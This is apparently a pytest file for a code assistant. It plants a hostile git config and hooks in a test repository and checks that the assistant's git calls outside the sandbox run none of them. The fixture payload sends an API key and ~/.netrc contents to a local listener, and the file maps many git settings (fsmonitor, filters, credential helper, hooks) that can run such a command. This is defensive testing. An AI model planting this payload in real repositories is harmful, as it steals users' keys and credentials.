"""The user's own repository, holding a hostile git configuration, tried as an attacker would, as root.

A tree unpacked from an archive can carry its .git: a config whose core.fsmonitor, filters, diff and merge drivers
name programs, a file of the tree it includes (which a model's edit could change), and hooks. The assistant runs git
on the repository outside the sandbox (status, ls-files, grep, commit, revert): none of those programs may run there.
Each one writes a marker and sends the key in the environment and HOME's .netrc to a listener on 127.0.0.1; nothing
may arrive, no marker may appear, and the assistant's own git work (a green run committed, then undone) still works.
"""
from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from code_assistant.vcs import repository_overrides
from tests.repos import Listener, answer, modify, python_repo, run_cli
from tests.scripted_server import ScriptedServer

KEY = "sk-planted-hostile-git-0123456789"
PYTEST = f"{sys.executable} -m pytest -q -p no:cacheprovider"
FIX = answer(modify("calc.py", "    return a - b", "    return a + b"))
HOOKS = ("pre-commit", "commit-msg", "post-commit", "post-checkout", "post-index-change", "reference-transaction",
         "pre-auto-gc", "post-rewrite")


def payload(marker: Path, port: int) -> str:
    """A shell command: a marker, then the key and HOME's .netrc to the listener."""
    send = (f"import os,socket;s=socket.create_connection(('127.0.0.1',{port}));"
            "s.sendall((os.environ.get('OPENAI_API_KEY','')+open(os.path.expanduser('~/.netrc')).read()).encode())")
    return f"touch {marker}; {sys.executable} -c \"{send}\""


def plant(repo: Path, marker: Path, port: int) -> None:
    """The hostile configuration and hooks, in a repository that is otherwise the user's (committed, clean)."""
    command = payload(marker, port).replace("\\", "\\\\").replace('"', '\\"')
    (repo / ".gitattributes").write_text("* filter=x diff=x merge=x\n")
    (repo / "included.cfg").write_text(f'[core]\n\tpager = "{command}"\n[diff "x"]\n\ttextconv = "{command}"\n')
    subprocess.run(["git", "add", "-A"], cwd=repo, check=True)
    subprocess.run(["git", "-c", "user.name=u", "-c", "user.email=u@x.invalid", "commit", "-qm", "attributes"],
                   cwd=repo, check=True)
    with (repo / ".git" / "config").open("a") as config:
        config.write(f'[core]\n\tfsmonitor = "{command}"\n\teditor = "{command}"\n'
                     f'[filter "x"]\n\tclean = "{command}"\n\tsmudge = "{command}"\n\tprocess = "{command}"\n'
                     f'[diff "x"]\n\tcommand = "{command}"\n[merge "x"]\n\tdriver = "{command}"\n'
                     f'[credential]\n\thelper = "!{command}"\n[include]\n\tpath = ../included.cfg\n')
    for hook in HOOKS:
        (repo / ".git" / "hooks" / hook).write_text(f"#!/bin/sh\n{payload(marker, port)}\n")
        (repo / ".git" / "hooks" / hook).chmod(0o755)


def test_a_repositorys_own_git_configuration_and_hooks_run_nothing_outside_the_sandbox(
        tmp_path: Path, isolated_env: Path) -> None:
    (isolated_env / ".netrc").write_text(f"machine example.invalid login me password {KEY}\n")
    repo = python_repo(tmp_path)
    marker = tmp_path / "marker"
    with Listener() as listener:
        plant(repo, marker, listener.port)
        with ScriptedServer([FIX]) as server:
            run = run_cli(["--repo", str(repo), "--task", "Fix add", "--test-command", PYTEST, "--max-iterations", "1",
                           "--commit"], server_url=server.url, api_key=KEY)
        context = run_cli(["--repo", str(repo), "--context-only", "--task", "Fix add"], api_key=KEY)
        undone = run_cli(["undo", "--repo", str(repo)], api_key=KEY)
    assert not marker.exists() and listener.received == []
    assert run.returncode == 0, run.stdout + run.stderr
    assert context.returncode == 0, context.stdout + context.stderr
    assert undone.returncode == 0, undone.stdout + undone.stderr
    log = subprocess.run(["git", "-c", "core.fsmonitor=false", "log", "--format=%s"], cwd=repo, capture_output=True,
                         text=True, check=True).stdout.splitlines()
    assert len(log) == 4 and log[0].startswith("Revert"), log  # the assistant's commit, and its revert by undo
    assert "return a - b" in (repo / "calc.py").read_text()


def test_the_users_own_settings_hold_and_the_repositorys_are_replaced_by_harmless_ones() -> None:
    listing = "\0".join([
        "global", "filter.lfs.clean\ngit-lfs clean -- %f",
        "global", "credential.helper\nstore",
        "local", "filter.lfs.clean\nsteal",
        "local", "credential.helper\n!steal",
        "local", "core.fsmonitor\nsteal",
        "local", "diff.x.textconv\nsteal",
        "local", "merge.x.driver\nsteal",
        "local", "user.name\nsomeone",
        "worktree", "core.pager\nsteal",
    ]) + "\0"
    assert repository_overrides(listing) == (
        "-c", "core.hooksPath=/dev/null",
        "-c", "filter.lfs.clean=", "-c", "filter.lfs.clean=git-lfs clean -- %f",  # the user's value wins
        "-c", "credential.helper=", "-c", "credential.helper=store",  # the list emptied, the user's helper again
        "-c", "core.fsmonitor=false",
        "-c", "diff.x.textconv=cat",
        "-c", "merge.x.driver=git merge-file --marker-size=%L %A %O %B",
        "-c", "core.pager=cat",
    )
    assert repository_overrides("") == ("-c", "core.hooksPath=/dev/null")  # no hook, even where nothing is set
